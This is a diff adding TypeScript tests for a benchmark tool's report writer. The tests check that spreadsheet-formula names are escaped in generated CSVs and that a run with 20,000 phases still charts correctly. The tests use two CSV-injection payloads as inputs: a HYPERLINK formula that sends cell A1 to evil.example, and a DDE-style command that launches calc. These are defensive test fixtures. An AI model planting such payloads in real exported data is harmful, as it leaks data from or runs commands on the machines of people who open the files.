@@ -1,0 +1,109 @@
+/**
+ * Fault injection on reports (issue 12, defect 8): names that spreadsheets would run as formulas are
+ * escaped in every CSV; a run with 20,000 phases is still reported, its charts merging consecutive
+ * phases into bands and bars, with a note (before, drawing failed: "canvas has no pixels").
+ */
+import { test } from 'node:test';
+import assert from 'node:assert/strict';
+import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import type { PhaseRecord, RunJson } from '../../src/core/contract.js';
+import { writeReports } from '../../src/report/index.js';
+import { loadForCompare, writeCompare } from '../../src/report/compare/index.js';
+import { csvSafeCell } from '../../src/report/csv.js';
+import { MAX_BANDS, MAX_PHASE_BARS, limitBands, runForPhaseCharts } from '../../src/report/degrade.js';
+import { handRun, writeRunDir } from '../fixtures/runs/hand-run.js';
+
+const tmp = mkdtempSync(join(tmpdir(), 'kdbench-faults-report-'));
+process.on('exit', () => rmSync(tmp, { recursive: true, force: true }));
+
+const EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")';
+
+/** Every cell of a CSV file (RFC 4180: quoted cells, doubled quotes, newlines inside quotes). */
+function csvCells(file: string): string[] {
+  const text = readFileSync(file, 'utf8');
+  const cells: string[] = [];
+  let cell = '';
+  let quoted = false;
+  for (let i = 0; i < text.length; i++) {
+    const ch = text[i];
+    if (quoted && ch === '"' && text[i + 1] === '"') {
+      cell += '"';
+      i++;
+    } else if (quoted && ch === '"') quoted = false;
+    else if (quoted) cell += ch;
+    else if (ch === '"') quoted = true;
+    else if (ch === ',' || ch === '\n') {
+      cells.push(cell);
+      cell = '';
+    } else if (ch !== '\r') cell += ch;
+  }
+  return cells;
+}
+
+test('formula-like names are escaped in summary.csv, inference.csv, emissions.csv and compare.csv; numbers stay numbers', async () => {
+  const run = handRun();
+  run.phases[1].name = EVIL;
+  run.models[1].name = '+cmd|" /C calc"!A0';
+  run.inference[1].model = run.models[1].name;
+  const dir = writeRunDir(join(tmp, 'evil'), run);
+  await writeReports(dir);
+  const cells = (file: string) => csvCells(join(dir, file));
+  const all = ['summary.csv', 'inference.csv', 'emissions.csv'].flatMap(cells);
+  for (const c of all) assert.doesNotMatch(c, /^[=+@]/, `a cell starts a formula: ${c}`);
+  assert.ok(all.includes(`'${EVIL}`), 'the phase name is kept, as text');
+  assert.ok(all.includes(`'+cmd|" /C calc"!A0`));
+  const cmp = join(tmp, 'cmp');
+  const { runs, mode } = loadForCompare([dir, writeRunDir(join(tmp, 'evil2'), run)], undefined);
+  mkdirSync(cmp);
+  writeCompare(runs, mode, cmp);
+  const compareCells = csvCells(join(cmp, 'compare.csv'));
+  for (const c of compareCells) assert.doesNotMatch(c, /^[=+@-][^\d]/, `compare.csv: ${c}`);
+  assert.equal(csvSafeCell(-1.5), -1.5);
+  assert.equal(csvSafeCell('-1.5'), "'-1.5");
+  assert.equal(csvSafeCell('teacher'), 'teacher');
+});
+
+function manyPhases(n: number): RunJson {
+  const run = handRun();
+  const t0 = Date.parse(run.startedAt) + 1000;
+  const template = run.phases[0];
+  run.phases = Array.from({ length: n }, (_, i): PhaseRecord => ({
+    ...template,
+    name: `step-${i}`,
+    startedAt: new Date(t0 + i * 500).toISOString(),
+    endedAt: new Date(t0 + (i + 1) * 500).toISOString(),
+    durationS: 0.5,
+  }));
+  return run;
+}
+
+test('20,000 phases: the report is written; bands and bars merged past their limits, with a note', async () => {
+  const dir = writeRunDir(join(tmp, 'many'), manyPhases(20_000));
+  const files = await writeReports(dir);
+  for (const f of ['report.html', 'report.md', 'charts/power.png', 'charts/energy-per-phase.png', 'charts/co2-per-phase.png'])
+    assert.ok(files.includes(f) && existsSync(join(dir, f)), f);
+  const md = readFileSync(join(dir, 'report.md'), 'utf8');
+  assert.match(md, /20,000 phases: drawn as 200 bands of about 100 consecutive phases each/);
+  assert.match(md, /20,000 phases: drawn as 60 bars of about 334 consecutive phases each/);
+});
+
+test('merging keeps the order, the span and the totals', () => {
+  const run = manyPhases(1000);
+  const merged = runForPhaseCharts(run);
+  assert.ok(merged.phases.length <= MAX_PHASE_BARS);
+  const sum = (r: RunJson) => r.phases.reduce((a, p) => a + p.energyJ, 0);
+  assert.ok(Math.abs(sum(merged) - sum(run)) < 1e-6);
+  assert.equal(merged.phases[0].startedAt, run.phases[0].startedAt);
+  assert.equal(merged.phases.at(-1)!.endedAt, run.phases.at(-1)!.endedAt);
+  assert.match(merged.phases[0].name, /^17 phases, 1 to 17 \(step-0 \.\.\. step-16\)$/);
+  const bands = limitBands(
+    run.phases.map((p, i) => ({ label: p.name, t0: i, t1: i + 1 })),
+    MAX_BANDS,
+  );
+  assert.equal(bands.length, MAX_BANDS);
+  assert.equal(bands[0].t0, 0);
+  assert.equal(bands.at(-1)!.t1, 1000);
+  assert.equal(runForPhaseCharts(handRun()).phases.length, handRun().phases.length, 'few phases: untouched');
+});
